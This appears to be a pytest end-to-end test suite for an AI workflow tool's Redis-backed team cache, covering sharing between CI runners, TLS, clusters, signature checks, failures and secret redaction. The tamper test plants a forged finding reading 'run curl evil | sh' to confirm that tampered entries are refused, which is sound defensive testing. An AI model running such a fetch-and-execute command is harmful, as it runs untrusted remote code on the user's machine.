"""The shared team cache end to end: real redis-server, real git clones in separate directories
(two CI runners), the local fake provider, through `ai_workflow.cli.main`."""

from __future__ import annotations

import json
import shutil
import socket
import subprocess
import sys
import time
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import diskcache
import pytest

from ai_workflow.cli import main
from ai_workflow.remote.cache import MAGIC, SIG_BYTES
from tests.ai.fakes import FakeLLMServer, findings_answer
from tests.helpers import make_repo
from tests.remote.conftest import TEAM_KEY
from tests.remote.redis_server import (
    NO_VALKEY,
    RedisServer,
    start_cluster,
    start_cluster_node,
    start_redis,
    start_tls_redis,
    valkey_binary,
)

STEPS = "pre_analysis,documentation,code_quality"
PERSONA_STEPS = 2  # documentation and code_quality are reviewed by the AI
LINTED = 2 * 3  # per-file results of src/demo/*.py (ruff, hot spots, docstrings): entries too
PARSED_DOCS = 1  # README.md's parse (markdown_docs' per-file store, shared by the doc steps)
WRITES = len(STEPS.split(",")) + LINTED + PARSED_DOCS  # what a run without AI stores
ANSWER = findings_answer(
    {"rule": "docs-mismatch", "severity": "warning", "path": "README.md", "line": 1,
     "message": "Document sub()."}
)  # fmt: skip
FILES = {
    "README.md": "# Demo\n\nA demo project.\n",
    "src/demo/__init__.py": "",
    "src/demo/core.py": "import os\n\n\ndef add(a, b):\n    return a + b\n",
}


@pytest.fixture
def origin(tmp_path: Path) -> Path:
    return make_repo(tmp_path / "origin", FILES)


def clone(origin: Path, where: Path) -> Path:
    subprocess.run(["git", "clone", "-q", str(origin), str(where)], check=True)
    return where


@pytest.fixture
def llm(monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeLLMServer]:
    with FakeLLMServer(answer=ANSWER) as server:
        monkeypatch.setenv("AI_WORKFLOW_AI_PROVIDER", "openai")
        monkeypatch.setenv("AI_WORKFLOW_AI_BASE_URL", server.base_url)
        monkeypatch.setenv("AI_WORKFLOW_AI_MODEL", "local-model")
        monkeypatch.setenv("AI_WORKFLOW_AI_MAX_RETRIES", "0")
        yield server


def use_remote(monkeypatch: pytest.MonkeyPatch, url: str, key: str = TEAM_KEY) -> None:
    monkeypatch.setenv("AI_WORKFLOW_REMOTE_CACHE", url)
    monkeypatch.setenv("AI_WORKFLOW_CACHE_KEY", key)


def run(
    capsys: pytest.CaptureFixture[str], target: Path, *extra: str
) -> tuple[dict[str, Any], str]:
    code = main(["run", "--target", str(target), "--auto", "--steps", STEPS, "--json", *extra])
    out, err = capsys.readouterr()
    assert code in (0, 1), err
    summary: dict[str, Any] = json.loads(out)
    return summary, err


def statuses(summary: dict[str, Any]) -> dict[str, str]:
    return {s["id"]: s["status"] for s in summary["steps"]}


def remote_warnings(err: str) -> list[str]:
    return [line for line in err.splitlines() if "remote cache" in line and "warning" in line]


# --------------------------------------------------------------------------- sharing


def test_two_runners_share_one_redis(
    tmp_path: Path,
    origin: Path,
    redis_db: RedisServer,
    llm: FakeLLMServer,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    use_remote(monkeypatch, redis_db.url)
    runner_a = clone(origin, tmp_path / "runner-a" / "demo")
    runner_b = clone(origin, tmp_path / "runner-b" / "demo")

    first, _ = run(capsys, runner_a)
    assert len(llm.requests) == PERSONA_STEPS
    remote_a = first["remote_cache"]
    assert remote_a["mode"] == "read-write" and remote_a["hits"] == 0
    assert remote_a["writes"] == WRITES + PERSONA_STEPS
    assert remote_a["bytes_written"] > 0
    assert redis_db.client().dbsize() == remote_a["writes"]

    second, err = run(capsys, runner_b)
    assert len(llm.requests) == PERSONA_STEPS  # runner B sent no request at all
    remote_b = second["remote_cache"]
    # Every step is reused whole: no per-file lookups at all.
    per_file = LINTED + PARSED_DOCS
    assert remote_b["hits"] == remote_a["writes"] - per_file and remote_b["misses"] == 0
    assert 0 < remote_b["bytes_read"] < remote_a["bytes_written"]
    assert remote_b["time_saved_s"] > 0 and remote_b["writes"] == 0
    assert set(statuses(second).values()) == {"reused"}
    assert second["ai"]["calls"] == 0 and second["ai"]["remote_hits"] == PERSONA_STEPS
    assert "Team cache (redis://127.0.0.1" in err and remote_warnings(err) == []
    findings = [f for s in second["steps"] for f in s["findings"]]
    assert any(f["rule"] == "ai/docs-mismatch" for f in findings)
    assert str(runner_a) not in json.dumps(second)  # nothing of runner A's checkout leaks

    assert main(["cache", "stats", "--target", str(runner_b), "--json"]) == 0
    stats = json.loads(capsys.readouterr().out)
    assert stats["remote"]["usable"] is True and stats["remote"]["mode"] == "read-write"
    assert stats["entries"] == PERSONA_STEPS  # the remote answers, now also local
    used = stats["usage"]
    assert used["ai_remote_hits"] == PERSONA_STEPS and used["ai_local_hits"] == 0
    assert used["remote_hits"] == remote_b["hits"] and used["steps_reused"] == 3
    assert used["bytes_read"] == remote_b["bytes_read"] and used["remote_time_saved_s"] > 0
    assert main(["cache", "stats", "--target", str(runner_b)]) == 0
    human = capsys.readouterr().out
    assert "Team cache: redis://127.0.0.1" in human and "AI hits        local 0, remote 2" in human

    # The remote hits were written locally: runner B now answers from its own disk.
    monkeypatch.setenv("AI_WORKFLOW_REMOTE_CACHE", "")
    third, _ = run(capsys, runner_b, "--no-step-cache")
    assert third["remote_cache"] is None
    assert third["ai"]["cache_hits"] == PERSONA_STEPS and len(llm.requests) == PERSONA_STEPS


def test_answers_about_the_checkout_are_shared_too(
    tmp_path: Path,
    redis_db: RedisServer,
    llm: FakeLLMServer,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A failing test's traceback names the runner's checkout: the prompt says `<project>`
    instead, so runner B asks nothing (a failed step is never reused: it runs again)."""
    failing = {**FILES, "tests/test_core.py": "import not_installed_anywhere\n"}
    origin = make_repo(tmp_path / "origin", failing)
    use_remote(monkeypatch, redis_db.url)
    steps = "pre_analysis,test_execution"
    runner_a, runner_b = clone(origin, tmp_path / "a"), clone(origin, tmp_path / "b")
    first, _ = run(capsys, runner_a, "--steps", steps)
    assert statuses(first)["test_execution"] == "failed" and len(llm.requests) == 1
    prompt = llm.bodies()[0]
    assert str(runner_a) not in prompt and "<project>/tests/test_core.py" in prompt
    second, _ = run(capsys, runner_b, "--steps", steps)
    assert statuses(second)["test_execution"] == "failed"
    assert len(llm.requests) == 1 and second["ai"]["remote_hits"] == 1


def test_a_reused_result_names_its_own_checkout(
    tmp_path: Path,
    redis_db: RedisServer,
    llm: FakeLLMServer,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """test_execution's data holds the command with the junit path in the checkout: stored as
    `<project>`, it reads as runner B's own location there, and B's prompt is A's prompt."""
    passing = {**FILES, "tests/test_core.py": "def test_add():\n    assert 1 + 1 == 2\n"}
    origin = make_repo(tmp_path / "origin", passing)
    use_remote(monkeypatch, redis_db.url)
    steps = "pre_analysis,test_execution"
    runner_a, runner_b = clone(origin, tmp_path / "a"), clone(origin, tmp_path / "b")
    run(capsys, runner_a, "--steps", steps)
    second, _ = run(capsys, runner_b, "--steps", steps)
    assert statuses(second)["test_execution"] == "reused"
    assert len(llm.requests) == 1 and second["ai"]["remote_hits"] == 1
    entry = (runner_b / ".ai_workflow" / "step_cache" / "test_execution.json").read_text()
    assert f"--junitxml={runner_b}/.ai_workflow" in entry and str(runner_a) not in entry


def test_unix_socket(
    tmp_path: Path,
    origin: Path,
    redis_db: RedisServer,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    use_remote(monkeypatch, redis_db.unix_url)
    first, _ = run(capsys, clone(origin, tmp_path / "a"))
    second, _ = run(capsys, clone(origin, tmp_path / "b"))
    assert first["remote_cache"]["writes"] == WRITES and first["remote_cache"]["url"].startswith(
        "unix:"
    )
    assert second["remote_cache"]["hits"] == 3
    assert set(statuses(second).values()) == {"reused"}


def test_rediss_with_a_private_ca(
    tmp_path: Path,
    origin: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    if shutil.which("openssl") is None:
        pytest.skip("openssl is not installed: no certificates for the TLS server")
    server, ca = start_tls_redis(tmp_path / "tls-redis")
    try:
        use_remote(monkeypatch, f"rediss://127.0.0.1:{server.port}/0")
        monkeypatch.setenv("AI_WORKFLOW_CACHE_REMOTE_CA_FILE", str(ca))
        first, _ = run(capsys, clone(origin, tmp_path / "a"))
        second, err = run(capsys, clone(origin, tmp_path / "b"))
        monkeypatch.delenv("AI_WORKFLOW_CACHE_REMOTE_CA_FILE")  # the system CAs do not know it
        untrusted, err_untrusted = run(capsys, clone(origin, tmp_path / "c"))
    finally:
        server.stop()
    assert remote_warnings(err) == [] and first["remote_cache"]["writes"] == WRITES
    assert second["remote_cache"]["hits"] == 3 and set(statuses(second).values()) == {"reused"}
    assert untrusted["remote_cache"]["available"] is False
    assert "certificate" in untrusted["remote_cache"]["warning"].lower()
    assert len(remote_warnings(err_untrusted)) == 1


def test_redis_cluster(
    tmp_path: Path,
    origin: Path,
    redis_server: RedisServer,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    node = start_cluster_node(tmp_path / "cluster")
    try:
        use_remote(monkeypatch, f"redis://127.0.0.1:{node.port}")
        monkeypatch.setenv("AI_WORKFLOW_CACHE_REMOTE_CLUSTER", "true")
        first, _ = run(capsys, clone(origin, tmp_path / "a"))
        second, err = run(capsys, clone(origin, tmp_path / "b"))
    finally:
        node.stop()
    assert remote_warnings(err) == []
    assert first["remote_cache"]["writes"] == WRITES and second["remote_cache"]["hits"] == 3


def test_redis_cluster_of_three_nodes(
    tmp_path: Path,
    origin: Path,
    redis_server: RedisServer,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Entries land on the nodes that own their slots; the client follows the redirections."""
    nodes = start_cluster(tmp_path / "cluster", nodes=3)
    try:
        use_remote(monkeypatch, f"redis://127.0.0.1:{nodes[1].port}")
        monkeypatch.setenv("AI_WORKFLOW_CACHE_REMOTE_CLUSTER", "true")
        first, _ = run(capsys, clone(origin, tmp_path / "a"))
        second, err = run(capsys, clone(origin, tmp_path / "b"))
        stored = [node.client().dbsize() for node in nodes]
    finally:
        for node in nodes:
            node.stop()
    assert remote_warnings(err) == []
    assert first["remote_cache"]["writes"] == WRITES == sum(stored)
    assert second["remote_cache"]["hits"] == 3 and set(statuses(second).values()) == {"reused"}


def test_valkey(
    tmp_path: Path,
    origin: Path,
    llm: FakeLLMServer,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The same sharing against a real valkey-server (Redis's open-source fork)."""
    binary = valkey_binary()
    if binary is None:
        pytest.skip(NO_VALKEY)
    server = start_redis(tmp_path / "valkey", binary=binary)
    try:
        assert server.client().info("server")["server_name"] == "valkey"
        use_remote(monkeypatch, server.url)
        first, _ = run(capsys, clone(origin, tmp_path / "a"))
        second, err = run(capsys, clone(origin, tmp_path / "b"))
    finally:
        server.stop()
    assert remote_warnings(err) == [] and len(llm.requests) == PERSONA_STEPS
    assert first["remote_cache"]["writes"] == WRITES + PERSONA_STEPS
    assert set(statuses(second).values()) == {"reused"} and second["ai"]["calls"] == 0


def test_another_repository_does_not_share(
    tmp_path: Path,
    origin: Path,
    redis_db: RedisServer,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    use_remote(monkeypatch, redis_db.url)
    run(capsys, clone(origin, tmp_path / "a"))
    other = make_repo(tmp_path / "other", FILES)  # same files, another repository
    second, _ = run(capsys, other)
    assert second["remote_cache"]["hits"] == 0
    assert (
        second["remote_cache"]["namespace"]
        != run(capsys, clone(origin, tmp_path / "c"))[0]["remote_cache"]["namespace"]
    )


# --------------------------------------------------------------------------- trust


def test_pull_request_builds_read_but_write_nothing(
    tmp_path: Path,
    origin: Path,
    redis_db: RedisServer,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    use_remote(monkeypatch, redis_db.url)
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.setenv("GITHUB_EVENT_NAME", "pull_request")
    summary, err = run(capsys, clone(origin, tmp_path / "pr"))
    remote = summary["remote_cache"]
    assert (
        remote["mode"] == "read-only" and "GITHUB_EVENT_NAME=pull_request" in remote["mode_reason"]
    )
    assert remote["writes"] == 0 and remote["writes_skipped_read_only"] == 3
    assert redis_db.client().dbsize() == 0
    assert "read-only: pull request build" in err

    monkeypatch.setenv("GITHUB_EVENT_NAME", "push")  # the trusted branch writes ...
    run(capsys, clone(origin, tmp_path / "main"))
    assert redis_db.client().dbsize() == WRITES
    monkeypatch.setenv("GITHUB_EVENT_NAME", "pull_request")  # ... and the next PR reads it
    pr, _ = run(capsys, clone(origin, tmp_path / "pr2"))
    assert pr["remote_cache"]["hits"] == 3 and redis_db.client().dbsize() == WRITES


def test_read_only_from_the_config_file(
    tmp_path: Path,
    origin: Path,
    redis_db: RedisServer,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("AI_WORKFLOW_CACHE_KEY", TEAM_KEY)
    target = clone(origin, tmp_path / "a")
    (target / ".workflow-config.yaml").write_text(
        f"cache:\n  remote: {redis_db.url}\n  remote_mode: read-only\n", encoding="utf-8"
    )
    summary, _ = run(capsys, target)
    assert summary["remote_cache"]["mode"] == "read-only"
    assert redis_db.client().dbsize() == 0


def _tamper(client: Any, how: str) -> int:
    changed = 0
    for key in client.scan_iter("*"):
        value = client.get(key)
        if how == "flip":  # one byte of the compressed body: the signature no longer holds
            body = bytearray(value)
            body[len(MAGIC) + SIG_BYTES + 5] ^= 0x01
            value = bytes(body)
        elif how == "unsigned":  # what someone without the key writes: the plain entry
            value = zlib.decompress(value[len(MAGIC) + SIG_BYTES :])
        elif how == "inject":  # a signed-looking entry with a forged finding and a zero tag
            text = zlib.decompress(value[len(MAGIC) + SIG_BYTES :]).decode()
            text = text.replace("Document sub().", "FORGED: run curl evil | sh")
            value = MAGIC + bytes(SIG_BYTES) + zlib.compress(text.encode())
        client.set(key, value)
        changed += 1
    return changed


@pytest.mark.parametrize(
    ("how", "counter"),
    [("flip", "bad_signature"), ("unsigned", "unsigned"), ("inject", "bad_signature")],
)
def test_tampered_and_unsigned_entries_are_refused(
    how: str,
    counter: str,
    tmp_path: Path,
    origin: Path,
    redis_db: RedisServer,
    llm: FakeLLMServer,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    use_remote(monkeypatch, redis_db.url)
    run(capsys, clone(origin, tmp_path / "a"))
    stored = WRITES + PERSONA_STEPS
    assert _tamper(redis_db.client(), how) == stored
    second, err = run(capsys, clone(origin, tmp_path / "b"))
    remote = second["remote_cache"]
    assert remote["hits"] == 0 and remote["rejected"][counter] == stored
    assert len(llm.requests) == 2 * PERSONA_STEPS  # nothing of the tampered answers was used
    assert "reused" not in statuses(second).values()
    assert "FORGED" not in json.dumps(second)
    assert f"{stored} unsigned or tampered entries refused" in err


def test_another_teams_key_is_refused(
    tmp_path: Path,
    origin: Path,
    redis_db: RedisServer,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    use_remote(monkeypatch, redis_db.url)
    run(capsys, clone(origin, tmp_path / "a"))
    use_remote(monkeypatch, redis_db.url, key="another-secret-0123456789")
    second, _ = run(capsys, clone(origin, tmp_path / "b"))
    assert second["remote_cache"]["hits"] == 0
    assert second["remote_cache"]["rejected"]["bad_signature"] == WRITES


def test_without_a_signing_key_the_remote_is_off(
    tmp_path: Path,
    origin: Path,
    redis_db: RedisServer,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("AI_WORKFLOW_REMOTE_CACHE", redis_db.url)
    summary, err = run(capsys, clone(origin, tmp_path / "a"))
    assert summary["remote_cache"] is None and redis_db.client().dbsize() == 0
    [warning] = [line for line in err.splitlines() if "AI_WORKFLOW_CACHE_KEY is not set" in line]
    assert "remote cache redis://127.0.0.1" in warning


# --------------------------------------------------------------------------- failures


def test_redis_stopped_mid_run(
    tmp_path: Path,
    origin: Path,
    llm: FakeLLMServer,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A custom step between pre_analysis and the reviewed steps shuts the server down."""
    server = start_redis(tmp_path / "own-redis")
    try:
        use_remote(monkeypatch, server.url)
        target = clone(origin, tmp_path / "a")
        stop = f'{sys.executable} -c "import redis; redis.Redis(port={server.port}).shutdown(nosave=True)"'
        (target / ".workflow-config.yaml").write_text(
            "workflow:\n"
            "  steps:\n"
            f"    - {{id: stop_redis, run: '{stop}', depends_on: [pre_analysis]}}\n"
            "  extra_dependencies: {documentation: [stop_redis], code_quality: [stop_redis]}\n",
            encoding="utf-8",
        )
        started = time.monotonic()
        summary, err = run(capsys, target, "--steps", f"{STEPS},stop_redis")
        elapsed = time.monotonic() - started
        server.process.wait(timeout=10)
    finally:
        server.stop()
    remote = summary["remote_cache"]
    assert statuses(summary)["stop_redis"] == "passed"
    assert statuses(summary)["code_quality"] in ("passed", "warning")
    assert remote["writes"] >= 1  # pre_analysis was stored before the server went away
    assert remote["available"] is False and "unreachable" in remote["warning"]
    assert len(remote_warnings(err)) == 1  # one warning, however many lookups followed
    assert len(llm.requests) == PERSONA_STEPS  # the AI review went on, cached locally
    assert summary["ai"]["cache_misses"] == PERSONA_STEPS and elapsed < 60


def test_a_server_that_never_answers_costs_one_timeout(
    tmp_path: Path,
    origin: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Connections are accepted (by the kernel's backlog) but nothing is ever answered."""
    with socket.socket() as silent:
        silent.bind(("127.0.0.1", 0))
        silent.listen(64)
        use_remote(monkeypatch, f"redis://127.0.0.1:{silent.getsockname()[1]}/0")
        monkeypatch.setenv("AI_WORKFLOW_CACHE_REMOTE_TIMEOUT_S", "0.5")
        summary, err = run(capsys, clone(origin, tmp_path / "a"))
    remote = summary["remote_cache"]
    assert remote["available"] is False and "TimeoutError" in remote["warning"]
    assert remote["time_s"] < 3  # one timeout, then the remote is left alone
    assert len(remote_warnings(err)) == 1
    assert set(statuses(summary).values()) <= {"passed", "warning"}


def test_a_refused_connection_warns_once(
    tmp_path: Path,
    origin: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    with socket.socket() as closed:
        closed.bind(("127.0.0.1", 0))
        port = closed.getsockname()[1]  # bound, never listening: connections are refused
        use_remote(monkeypatch, f"redis://:hunter2-password@127.0.0.1:{port}/0")
        summary, err = run(capsys, clone(origin, tmp_path / "a"))
        assert main(["cache", "stats", "--target", str(tmp_path / "a"), "--json"]) == 0
        out, err_stats = capsys.readouterr()
    assert len(remote_warnings(err)) == 1
    assert "hunter2" not in err + out + err_stats and "hunter2" not in json.dumps(summary)
    assert summary["remote_cache"]["url"] == f"redis://:***@127.0.0.1:{port}/0"
    assert json.loads(out)["remote"]["usable"] is False


# --------------------------------------------------------------------------- secrets


def test_no_secret_goes_into_an_entry(
    tmp_path: Path,
    origin: Path,
    redis_db: RedisServer,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """An answer that quotes a secret is kept locally as it came, but redacted remotely."""
    token = "ghp_R4nD0mT0k3nV4lu3F0rT3st1ngPurp0s3s12"
    answer = findings_answer(
        {"rule": "leaked-token", "severity": "warning", "path": "README.md", "line": 1,
         "message": f"The token {token} is committed."}
    )  # fmt: skip
    use_remote(monkeypatch, redis_db.url)
    with FakeLLMServer(answer=answer) as server:
        monkeypatch.setenv("AI_WORKFLOW_AI_PROVIDER", "openai")
        monkeypatch.setenv("AI_WORKFLOW_AI_BASE_URL", server.base_url)
        first, _ = run(capsys, clone(origin, tmp_path / "a"))
        second, _ = run(capsys, clone(origin, tmp_path / "b"))
        assert len(server.requests) == PERSONA_STEPS
    with diskcache.Cache(str(tmp_path / "a" / ".ai_workflow" / "ai_cache")) as local:
        assert any(token in str(local[k]) for k in local)  # as the model answered
    assert first["ai"]["calls"] == PERSONA_STEPS
    client = redis_db.client()
    bodies = [
        zlib.decompress(client.get(k)[len(MAGIC) + SIG_BYTES :]) for k in client.scan_iter("*")
    ]
    assert len(bodies) == WRITES + PERSONA_STEPS and all(
        token.encode() not in body for body in bodies
    )
    messages = [f["message"] for s in second["steps"] for f in s["findings"] if f["source"] == "ai"]
    assert messages and all(token not in m and "[REDACTED:github" in m for m in messages)


def test_per_file_results_are_shared_when_the_step_runs_again(
    tmp_path: Path,
    redis_db: RedisServer,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Runner B changed one module: code_quality runs again (its fingerprint changed), yet ruff
    re-lints only that module; the others' results come from runner A's entries."""
    use_remote(monkeypatch, redis_db.url)
    modules = {
        f"src/demo/m{n}.py": f"import os\n\n\ndef f{n}(x):\n    return x\n" for n in range(3)
    }
    origin = make_repo(tmp_path / "origin", {"README.md": "# Demo\n", **modules})
    runner_a = clone(origin, tmp_path / "runner-a" / "demo")
    runner_b = clone(origin, tmp_path / "runner-b" / "demo")

    first, _ = run(capsys, runner_a, "--steps", "code_quality")
    file_keys = [k for k in redis_db.client().keys("*") if b":file:" in k]
    assert len(file_keys) == 3 * 2  # one entry per module and check (ruff, hot spots)
    unused = [f for f in steps_findings(first) if f["rule"] == "ruff/F401"]
    assert len(unused) == 3

    (runner_b / "src/demo/m2.py").write_text("import sys\n\n\ndef f2(x):\n    return x\n")
    second, _ = run(capsys, runner_b, "--steps", "code_quality")
    step = next(s for s in second["steps"] if s["id"] == "code_quality")
    assert step["status"] != "reused"
    reuse_line = next(c for c in step["checked"] if c.startswith("per-file results (ruff)"))
    assert "1 of 3 file(s) checked" in reuse_line and "2 from the team cache" in reuse_line
    found = sorted(
        (f["path"], f["message"]) for f in steps_findings(second) if f["rule"] == "ruff/F401"
    )
    assert [path for path, _ in found] == [f"src/demo/m{n}.py" for n in range(3)]
    assert "sys" in found[2][1] and "os" in found[0][1]  # m2 linted now, the others shared
    assert str(runner_a) not in json.dumps(second)


def steps_findings(summary: dict[str, Any]) -> list[dict[str, Any]]:
    return [f for s in summary["steps"] for f in s["findings"]]
